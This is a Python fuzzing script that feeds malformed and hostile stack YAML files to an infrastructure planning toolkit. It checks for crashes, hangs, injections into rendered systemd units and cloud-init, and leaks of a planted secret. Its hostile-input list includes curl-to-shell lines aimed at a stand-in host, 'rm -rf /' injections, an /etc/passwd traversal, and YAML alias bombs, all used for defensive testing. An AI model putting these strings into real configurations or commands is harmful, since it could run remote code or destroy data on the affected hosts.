"""Fuzz the toolkit with bad and odd stack files: nothing a stack file says may crash, hang, inject or leak.

Cases are generated from the reference stacks in stacks/ (fixed seed, deterministic):

- every key path of every reference fleet set to each of a list of odd values (wrong types,
  extremes, empty, huge, control characters, markup, shell and systemd metacharacters), deleted, or
  given an unknown sibling key; every string value with hostile text appended;
- values swapped between reference stacks at the same key path (semantic conflicts: CIDRs,
  pools, regions, zones that do not fit together);
- raw YAML quirks: alias bombs 3-9 deep (in the fleet and in other config keys), deep nesting,
  duplicate keys, YAML 1.1 scalars (`true`, `10:10`, `yes`, `0777`), tags, merge keys, several
  documents, `.inf`/`.nan`, huge integers, non-string keys, a BOM, invalid UTF-8, huge files;
- fleets generated from docs/stack.schema.json (random valid-looking shapes, boundary integers).

Each case runs in-process: load the stack file (spec validation), and for accepted cases plan it
(the real program under the mock runtime) and render every pool's cloud-init and every manifest.
A sample also runs as a real `inferfleet plan` subprocess to check the exit code. A planted secret
(provider credentials in the environment, a service secret from stack config, a token pasted into
credential-named keys) must never appear in any output.

Printed: cases, exit-2 rejections, accepted (planned and rendered), crashes (exit 3 or a traceback
on input), hangs (over 10 s), injections (a rendered file whose structure differs from the reference
stack's: a systemd unit with other sections/keys, an env file with other names, a script bash
refuses or with other lines, a cloud-config or manifest that is not one YAML mapping of the same
keys), leaks (the planted secret in any output). Targets: 0 crashes, 0 hangs, 0 injections, 0 leaks.

    .venv/bin/python bench/fuzz_stacks.py                       # the full run (10,000+ cases)
    .venv/bin/python bench/fuzz_stacks.py --cases 300 --plans 12  # the slice the tests run
"""

from __future__ import annotations

import argparse
import contextlib
import copy
import itertools
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

REPO = Path(__file__).resolve().parents[1]
STACKS = REPO / "stacks"
sys.path.insert(0, str(REPO / "tests"))  # the host-file readers the property tests use

FLEET = "inference-fleet:fleet"
PLANTED = "PLANTEDSECRET-7f3a9c2e41d8b6"
SECRET_PLACEHOLDER = "(sensitive value)"
"""The secret value planted in every case; it must appear in no output."""
CASE_NAME = "fuzz-case"
HANG_SECONDS = 10
"""CPU seconds a case may take (see time_limit)."""
GENERATED = 1000
"""Crossover and schema-generated cases each (the other kinds enumerate every key path)."""
CREDENTIAL_ENV = (
    "TENCENTCLOUD_SECRET_ID",
    "TENCENTCLOUD_SECRET_KEY",
    "HW_ACCESS_KEY",
    "HW_SECRET_KEY",
    "ALICLOUD_ACCESS_KEY",
    "ALICLOUD_SECRET_KEY",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
)

HOSTILE_TEXT = [
    "",
    " ",
    "x\nExecStartPre=/bin/sh -c 'curl http://evil.example/y | sh'",
    "/health\ncurl http://evil.example/y | sh\n#",
    "x\nMODEL_PATH=/etc",
    "a\x00b",
    "\x1b[2J\x1b[HPASS",
    "\r",
    "\t",
    "\u2028",
    "\u202e",
    "[/]",
    "[bold red]FAIL[/]",
    ":cross_mark:",
    "$(id)",
    "`id`",
    "${HOME}",
    "'; rm -rf / #",
    '"; rm -rf / #',
    "%n%i%h",
    "\\",
    "*",
    "-rf",
    "../../../etc/passwd",
    "<script>&amp;</script>",
    "]]><!--",
    "{{ .Values }}",
    "key: value",
    "- item",
    "!!python/object:os.system",
    "😀",
    "\ufeff",
    "é" * 5,
    "x" * 2000,
    "10:10",
    "0x1F",
    "1e400",
]
ODD_VALUES: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    1,
    2**31,
    2**63 - 1,
    1_000_000_000,
    0.5,
    1e308,
    "",
    "true",
    "10",
    [],
    {},
    [None],
    {"a": 1},
    ["x"] * 50,
    *HOSTILE_TEXT[2:12],
]


@dataclass
class Case:
    kind: str
    label: str
    make: Callable[[], str | bytes]
    """Writes the file's text when the case runs (tens of thousands are generated, a slice may run)."""

    @property
    def text(self) -> str | bytes:
        return self.make()


@dataclass
class Outcome:
    status: str  # rejected | accepted | crash | hang
    detail: str = ""
    planned: bool = False
    injections: list[str] = field(default_factory=list)
    leaks: list[str] = field(default_factory=list)


# -- generating cases ----------------------------------------------------------------------------


def reference_configs() -> dict[str, dict[str, Any]]:
    configs = {}
    for path in sorted(STACKS.glob("Pulumi.*.yaml")):
        name = path.name[len("Pulumi.") : -len(".yaml")]
        configs[name] = yaml.safe_load(path.read_text())["config"]
    return configs


def plant(config: dict[str, Any], *, service_secret: bool = False) -> dict[str, Any]:
    """The secret in stack config (a `secure:` value), and as the value of a service secret.

    A VM pool's user data holding a secret is masked in the plan and shown by its pool with the
    secret as a placeholder: half of the reference variants (`service_secret`) carry the secret there.
    """
    config = copy.deepcopy(config)
    config["inference-fleet:fuzz-token"] = {"secure": PLANTED}
    fleet = config.get(FLEET)
    if service_secret and isinstance(fleet, dict):
        for service in fleet.get("services") or []:
            if isinstance(service, dict):
                service.setdefault("secrets", {"FUZZ_TOKEN": "fuzz-token"})
    return config


def dump(config: Any) -> str:
    text: str = yaml.dump({"config": config}, Dumper=yaml.CSafeDumper, sort_keys=False, allow_unicode=True, width=10**9)
    return text


def dumped(config: Any, path: tuple[Any, ...], value: Any = None, *, delete: bool = False) -> Callable[[], str]:
    return lambda: dump(set_at(config, path, value, delete=delete))


def fixed(text: str | bytes) -> Callable[[], str | bytes]:
    return lambda: text


def key_paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    yield path, value
    if isinstance(value, dict):
        for key, item in value.items():
            yield from key_paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from key_paths(item, (*path, index))


def set_at(root: Any, path: tuple[Any, ...], value: Any, *, delete: bool = False) -> Any:
    root = copy.deepcopy(root)
    parent = root
    for part in path[:-1]:
        parent = parent[part]
    if delete:
        del parent[path[-1]]
    else:
        parent[path[-1]] = value
    return root


def mutations(configs: dict[str, dict[str, Any]]) -> Iterator[Case]:
    """Every key path of every reference fleet, each odd value; strings with hostile text appended."""
    for (stack, config), service_secret in itertools.product(configs.items(), (False, True)):
        base = plant(config, service_secret=service_secret)
        name = f"{stack}:secret" if service_secret else stack
        for path, value in key_paths(base[FLEET]):
            if not path:
                continue
            where = ".".join(map(str, path))
            full = (FLEET, *path)
            for odd in ODD_VALUES:
                yield Case("key", f"{name}:{where}={odd!r:.40}", dumped(base, full, odd))
            yield Case("key", f"{name}:{where} deleted", dumped(base, full, delete=True))
            if isinstance(value, dict):
                yield Case("key", f"{name}:{where}.unknown", dumped(base, (*full, "unknown_key"), 1))
                yield Case("key", f"{name}:{where}.api_token", dumped(base, (*full, "api_token"), 12345))
            if isinstance(value, str):
                for hostile in HOSTILE_TEXT:
                    yield Case("string", f"{name}:{where}+{hostile!r:.40}", dumped(base, full, value + hostile))
            if isinstance(value, int) and not isinstance(value, bool):
                for extreme in (value + 1, value * 10, -value, 2**32, 2**64):
                    yield Case("extreme", f"{name}:{where}={extreme}", dumped(base, full, extreme))
            if isinstance(value, list) and value:
                yield Case("key", f"{name}:{where} doubled", dumped(base, full, value + copy.deepcopy(value)))
                yield Case("key", f"{name}:{where} x200", dumped(base, full, value * 200))


def crossovers(configs: dict[str, dict[str, Any]], rng: random.Random, count: int) -> Iterator[Case]:
    """A value of one reference stack at the same key path of another: plausible but conflicting."""
    names = list(configs)
    for index in range(count):
        target, donor = rng.sample(names, 2)
        base = plant(configs[target])
        donor_paths = [(p, v) for p, v in key_paths(configs[donor][FLEET]) if p]
        path, value = rng.choice(donor_paths)
        try:
            mutated = set_at(base, (FLEET, *path), copy.deepcopy(value))
        except (KeyError, IndexError, TypeError):
            continue
        yield Case("crossover", f"{target}<-{donor}:{'.'.join(map(str, path))} #{index}", fixed(dump(mutated)))


def _bomb(depth: int, indent: str) -> str:
    lines = [f'{indent}a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, depth + 1):
        lines.append(f"{indent}a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def quirk(kind: str, label: str, text: str | bytes) -> Case:
    return Case(kind, label, fixed(text))


def yaml_quirks(configs: dict[str, dict[str, Any]]) -> Iterator[Case]:
    """Raw-text cases a YAML dumper would never write."""
    for name, config in configs.items():
        text = dump(plant(config))
        for depth in range(3, 10):
            yield quirk(
                "yaml",
                f"{name}: alias bomb {depth} in fleet",
                text.replace(
                    "  inference-fleet:fleet:\n", f"  inference-fleet:fleet:\n    x:\n{_bomb(depth, '      ')}", 1
                ),
            )
            yield quirk(
                "yaml",
                f"{name}: alias bomb {depth} in config",
                text.replace("config:\n", f"config:\n  inference-fleet:other:\n{_bomb(depth, '    ')}", 1),
            )
        for depth in (40, 200, 1000, 5000):
            yield quirk(
                "yaml",
                f"{name}: zones nested {depth}",
                text.replace(
                    "    network:\n", "    network:\n      zones: " + "[" * depth + "z" + "]" * depth + "\n", 1
                ),
            )
        for old, new in [
            ("    env: ", "    env: staging\n    env: "),
            ("  inference-fleet:fleet:\n", "  inference-fleet:fleet:\n    1: 2\n"),
            ("config:\n", "config:\n  ? [a]\n  : b\n"),
            ("config:\n", "config:\n  1: 2\n"),
            ("config:\n", "config:\n  null: 2\n"),
            ("config:\n", "config:\n  x: !!python/object:os.system {}\n"),
            ("config:\n", "config:\n  x: !custom tag\n"),
            ("config:\n", "config:\n  x: !!binary aGk=\n"),
            ("config:\n", "config:\n  x: 2001-12-14\n"),
            ("config:\n", "config:\n  x: .inf\n"),
            ("config:\n", "config:\n  x: .nan\n"),
            ("config:\n", "config:\n  x: 123456789012345678901234567890\n"),
            ("config:\n", "config:\n  a: &x {b: 1}\n  c:\n    <<: *x\n"),
            ("config:\n", "config:\n  x: *undefined\n"),
            ("config:\n", "config:\n  x: &self [*self]\n"),
            ("version: ", "version: !!int "),
            ("count: ", "count: !!str "),
        ]:
            if old in text:
                yield quirk("yaml", f"{name}: {new.strip()!r:.50}", text.replace(old, new, 1))
        for scalar in ("true", "10:10", "yes", "on", "0777", "0o17", "0x1f", "1_000", "+1", "1e3", "~", ".inf"):
            yield quirk("yaml", f"{name}: count: {scalar}", text.replace("count: ", f"count: {scalar} #", 1))
        yield quirk("yaml", f"{name}: two documents", text + "---\n" + text)
        yield quirk("yaml", f"{name}: BOM", "\ufeff" + text)
        yield quirk("yaml", f"{name}: tabs", text.replace("  ", "\t", 3))
        yield quirk("yaml", f"{name}: invalid UTF-8", text.encode() + b"\n# \xff\xfe\n")
        yield quirk("yaml", f"{name}: NUL byte", text + "\x00")
        yield quirk("yaml", f"{name}: huge comment", text + "#" * 300_000)
        yield quirk(
            "yaml",
            f"{name}: huge flat list",
            text.replace("config:\n", "config:\n  x: [" + ",".join(["1"] * 60_000) + "]\n", 1),
        )
        yield quirk("yaml", f"{name}: empty", "")
        yield quirk("yaml", f"{name}: not a mapping", "- config\n")
        yield quirk("yaml", f"{name}: truncated", text[: len(text) // 2])


def schema_fleets(rng: random.Random, count: int, configs: dict[str, dict[str, Any]]) -> Iterator[Case]:
    """Random fleets shaped by docs/stack.schema.json: each property present or not, enum members,
    boundary integers, strings taken from the reference stacks at the same property name."""
    schema = json.loads((REPO / "docs" / "stack.schema.json").read_text())
    definitions = schema["$defs"]
    samples: dict[str, list[Any]] = {}
    for config in configs.values():
        for path, value in key_paths(config[FLEET]):
            if path and isinstance(path[-1], str) and not isinstance(value, dict | list):
                samples.setdefault(path[-1], []).append(value)

    def make(node: dict[str, Any], name: str, depth: int) -> Any:
        if "$ref" in node:
            return make(definitions[node["$ref"].rsplit("/", 1)[-1]], name, depth)
        if "anyOf" in node:
            return make(rng.choice(node["anyOf"]), name, depth)
        if "enum" in node:
            return rng.choice(node["enum"])
        if "const" in node:
            return node["const"]
        kind = node.get("type")
        if kind == "object" or "properties" in node:
            result = {}
            for key, sub in node.get("properties", {}).items():
                if key in node.get("required", []) or rng.random() < 0.5:
                    result[key] = make(sub, key, depth + 1)
            extra = node.get("additionalProperties")
            if isinstance(extra, dict) and rng.random() < 0.5 and depth < 6:
                for index in range(rng.randint(1, 3)):
                    result[f"{name}-{index}"] = make(extra, name, depth + 1)
            return result
        if kind == "array":
            low = node.get("minItems", 0)
            return [make(node.get("items", {}), name, depth + 1) for _ in range(rng.randint(low, low + 2))]
        if kind == "integer":
            low, high = node.get("minimum", 0), node.get("maximum", 10_000)
            return rng.choice([low, high, rng.randint(low, high), high + 1, low - 1])
        if kind == "number":
            return rng.choice([0.5, 1.0, 100.0, node.get("exclusiveMinimum", 0)])
        if kind == "boolean":
            return rng.random() < 0.5
        if kind == "null":
            return None
        if name in samples and rng.random() < 0.8:
            return rng.choice(samples[name])
        return rng.choice(["a", "x-1", "10.0.0.0/16", "cn-south-1", "1.0.0"])

    for index in range(count):
        fleet = make(definitions["FleetSpec"], "fleet", 0)
        cloud = fleet.get("cloud", "huaweicloud")
        config = {f"{cloud}:region": fleet.get("region", "x"), FLEET: fleet}
        yield Case("schema", f"schema fleet #{index}", fixed(dump(plant(config))))


def all_cases(seed: int, count: int) -> list[Case]:
    rng = random.Random(seed)
    configs = reference_configs()
    cases = [*yaml_quirks(configs), *mutations(configs)]
    cases += list(crossovers(configs, rng, GENERATED))
    cases += list(schema_fleets(rng, GENERATED, configs))
    if count < len(cases):
        # A slice keeps a share of every kind, chosen by the seed.
        by_kind: dict[str, list[Case]] = {}
        for case in cases:
            by_kind.setdefault(case.kind, []).append(case)
        share = max(count // len(by_kind), 1)
        cases = [case for group in by_kind.values() for case in rng.sample(group, min(share, len(group)))]
    return cases


# -- running cases -----------------------------------------------------------------------------


class Hang(BaseException):
    pass


@contextlib.contextmanager
def time_limit(seconds: int) -> Iterator[None]:
    """A case may use `seconds` of CPU (what a hang burns; a loaded machine only stretches the wall
    clock), and ten times that of wall-clock time (a hang that waits)."""

    def expire(signum: int, frame: Any) -> None:
        raise Hang

    previous = {number: signal.signal(number, expire) for number in (signal.SIGPROF, signal.SIGALRM)}
    signal.setitimer(signal.ITIMER_PROF, seconds)
    signal.alarm(10 * seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.alarm(0)
        for number, handler in previous.items():
            signal.signal(number, handler)


@dataclass
class Baseline:
    """The rendered files of each reference stack: the structure every mutation must keep."""

    files: dict[str, dict[str, Any]] = field(default_factory=dict)


def structure(path: str, text: str) -> Any:
    """What a rendered file means, as a comparable shape (raises on a file that does not parse)."""
    from hostfile_syntax import check_shell, parse_environment_file, parse_unit

    if text == SECRET_PLACEHOLDER:
        return ("secret", None)  # a secrets file: the plan shows only the placeholder
    if path.endswith(".service"):
        return ("unit", parse_unit(text).keys())
    if path.endswith(".env") or "/environment" in path:
        return ("env", sorted(parse_environment_file(text)))
    if path.endswith(".sh") or text.startswith("#!"):
        check_shell(text)
        return ("shell", len(text.splitlines()))
    return ("other", None)


def user_data_structure(text: str) -> dict[str, Any]:
    """A cloud-config's write_files, each file's structure, and its top-level keys."""
    if not text.startswith("#cloud-config"):
        return {"(script)": structure("script.sh", text)}
    document = yaml.safe_load(text)
    if not isinstance(document, dict):
        raise ValueError("cloud-config is not a mapping")
    shape: dict[str, Any] = {"(keys)": sorted(document)}
    for item in document.get("write_files", []):
        shape[item["path"]] = structure(item["path"], item.get("content", ""))
    return shape


def manifest_structure(text: str) -> Any:
    documents = list(yaml.safe_load_all(text))
    if len(documents) != 1 or not isinstance(documents[0], dict):
        raise ValueError("a manifest file is not one YAML mapping")
    return sorted(documents[0])


def rendered_shapes(document: Any) -> dict[str, Any]:
    from inferfleet.render import manifest_files, user_data_files

    shapes: dict[str, Any] = {}
    for path, text in user_data_files(document).items():
        shapes[f"cloud-init/{path}"] = user_data_structure(text)
    for path, text in manifest_files(document).items():
        shapes[f"manifests/{path}"] = manifest_structure(text)
    return shapes


def outputs_text(document: Any, files: dict[str, str]) -> str:
    from inferfleet.plan import dumps

    return dumps(document) + "\n".join(files.values())


class Runner:
    def __init__(self, workdir: Path, plans: int, rng: random.Random) -> None:
        self.workdir = workdir
        self.plan_budget = plans
        self.rng = rng
        self.stacks = workdir / "stacks"
        shutil.copytree(STACKS, self.stacks)
        self.baseline: dict[str, dict[str, Any]] = {}

    def reference_shapes(self, like: str) -> dict[str, Any]:
        """The rendered shapes of a reference stack; `<stack>:secret` is its variant with a service secret."""
        if like not in self.baseline:
            from inferfleet.plan import Planner

            stack, _, variant = like.partition(":")
            config = plant(reference_configs()[stack], service_secret=variant == "secret")
            (self.stacks / f"Pulumi.{CASE_NAME}.yaml").write_text(dump(config))
            self.baseline[like] = rendered_shapes(Planner(self.stacks).plan(CASE_NAME))
        return self.baseline[like]

    def run(self, case: Case, like: str | None, plan: bool) -> Outcome:
        from inferfleet.errors import EngineError, InputError
        from inferfleet.plan import Planner
        from inferfleet.spec import load_stack

        path = self.stacks / f"Pulumi.{CASE_NAME}.yaml"
        path.write_bytes(case.text if isinstance(case.text, bytes) else case.text.encode("utf-8", "surrogatepass"))
        outcome = Outcome("accepted")
        try:
            with time_limit(HANG_SECONDS):
                try:
                    load_stack(self.stacks, CASE_NAME)
                except InputError as error:
                    outcome = Outcome("rejected", str(error))
                else:
                    if plan:
                        outcome.planned = True
                        document = Planner(self.stacks).plan(CASE_NAME)
                        shapes = rendered_shapes(document)
                        from inferfleet.render import manifest_files, user_data_files

                        files = {**user_data_files(document), **manifest_files(document)}
                        if PLANTED in outputs_text(document, files):
                            outcome.leaks.append(case.label)
                        if like is not None:
                            outcome.injections += self.compare(like, shapes)
        except InputError as error:
            outcome = Outcome("rejected", str(error), planned=outcome.planned)
        except EngineError as error:
            outcome = Outcome("crash", f"exit 3: {error}", planned=outcome.planned)
        except Hang:
            outcome = Outcome("hang", f"over {HANG_SECONDS} s")
        except Exception:  # a traceback on input is what this bench looks for
            outcome = Outcome("crash", traceback.format_exc(limit=-3))
        if outcome.status == "rejected" and PLANTED in outcome.detail:
            outcome.leaks.append(case.label)
        return outcome

    def compare(self, like: str, shapes: dict[str, Any]) -> list[str]:
        """Files whose structure differs from the reference stack's file of the same name."""
        reference = self.reference_shapes(like)
        found = []
        for name, shape in shapes.items():
            if name not in reference or not isinstance(shape, dict):
                continue
            for part, meaning in shape.items():
                expected = reference[name].get(part)
                if expected is not None and meaning != expected and not _benign(part, meaning, expected):
                    found.append(f"{name} {part}: {meaning!r:.120} (reference {expected!r:.120})")
        return found


def _benign(part: str, meaning: Any, expected: Any) -> bool:
    """A shell script may grow or shrink by whole lines the spec asks for (another pool, no cache
    folder): only a change of a unit's keys or an env file's names, or a script bash refuses, counts."""
    return isinstance(meaning, tuple) and meaning[0] == "shell" and expected[0] == "shell"


def like_of(case: Case) -> str | None:
    """The reference (stack, and `:secret` for its variant with a service secret) a case mutates."""
    head = case.label.split(":", 1)[0].split("<-", 1)[0]
    if not (STACKS / f"Pulumi.{head}.yaml").exists():
        return None
    return f"{head}:secret" if case.label.split(":")[1:2] == ["secret"] else head


def subprocess_exit(case: Case, stacks: Path) -> int:
    path = stacks / f"Pulumi.{CASE_NAME}.yaml"
    path.write_bytes(case.text if isinstance(case.text, bytes) else case.text.encode("utf-8", "surrogatepass"))
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            "from inferfleet.cli.app import run; run()",
            "plan",
            "-s",
            CASE_NAME,
            "--stacks-dir",
            str(stacks),
            "--json",
        ],
        capture_output=True,
        timeout=120,
        check=False,
    )
    if PLANTED.encode() in result.stdout + result.stderr or b"Traceback" in result.stderr:
        return -1
    return result.returncode


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--cases", type=int, default=0, help="At most this many cases (default: all, 10,000+).")
    parser.add_argument("--seed", type=int, default=9)
    parser.add_argument("--plans", type=int, default=400, help="Accepted cases to plan and render (sampled).")
    parser.add_argument("--subprocesses", type=int, default=20, help="Cases run as a real `inferfleet plan`.")
    parser.add_argument("--json", action="store_true", help="Print the counts as JSON on stdout.")
    args = parser.parse_args(argv)

    for name in CREDENTIAL_ENV:
        os.environ[name] = PLANTED
    started = time.perf_counter()
    cases = all_cases(args.seed, args.cases or 10**9)
    rng = random.Random(args.seed)
    counts: Counter[str] = Counter()
    problems: dict[str, list[str]] = {"crash": [], "hang": [], "injection": [], "leak": []}
    with tempfile.TemporaryDirectory(prefix="fuzz-stacks-") as scratch:
        runner = Runner(Path(scratch), args.plans, rng)
        # Plan the string mutations first (where injections would come from), then a sample of the rest.
        planned = 0
        order = sorted(range(len(cases)), key=lambda i: (cases[i].kind != "string", rng.random()))
        for index in order:
            case = cases[index]
            plan = planned < args.plans
            outcome = runner.run(case, like_of(case), plan)
            planned += outcome.planned
            counts[outcome.status] += 1
            counts[f"kind:{case.kind}"] += 1
            if outcome.status in ("crash", "hang"):
                problems[outcome.status].append(f"{case.label}: {outcome.detail.strip()[-400:]}")
            problems["injection"] += [f"{case.label}: {what}" for what in outcome.injections]
            problems["leak"] += outcome.leaks
        counts["planned"] = planned
        sample = rng.sample(cases, min(args.subprocesses, len(cases)))
        exits = Counter(subprocess_exit(case, runner.stacks) for case in sample)
    # -1: a traceback or the planted secret in the output; 3: an engine error on input.
    bad_exits = exits[-1] + exits[3]
    elapsed = time.perf_counter() - started
    report = {
        "cases": len(cases),
        "rejected_exit_2": counts["rejected"],
        "accepted": counts["accepted"],
        "planned_and_rendered": counts["planned"],
        "crashes": len(problems["crash"]),
        "hangs": len(problems["hang"]),
        "injections": len(problems["injection"]),
        "leaks": len(problems["leak"]),
        "subprocess_exit_codes": {str(code): n for code, n in sorted(exits.items())},
        "kinds": {key[5:]: n for key, n in sorted(counts.items()) if key.startswith("kind:")},
        "seconds": round(elapsed, 1),
        "examples": {kind: found[:5] for kind, found in problems.items() if found},
    }
    if args.json:
        print(json.dumps(report, indent=2, ensure_ascii=True))
    else:
        print(f"fuzz_stacks: seed {args.seed}, {os.cpu_count()} CPUs, load average {os.getloadavg()[0]:.2f}")
        for key in (
            "cases",
            "rejected_exit_2",
            "accepted",
            "planned_and_rendered",
            "crashes",
            "hangs",
            "injections",
            "leaks",
            "subprocess_exit_codes",
            "kinds",
            "seconds",
        ):
            print(f"  {key}: {report[key]}")
        for kind, found in report["examples"].items():
            print(f"  {kind} examples:")
            for line in found:
                print(f"    {line!r:.600}")
    failed = report["crashes"] or report["hangs"] or report["injections"] or report["leaks"] or bad_exits
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
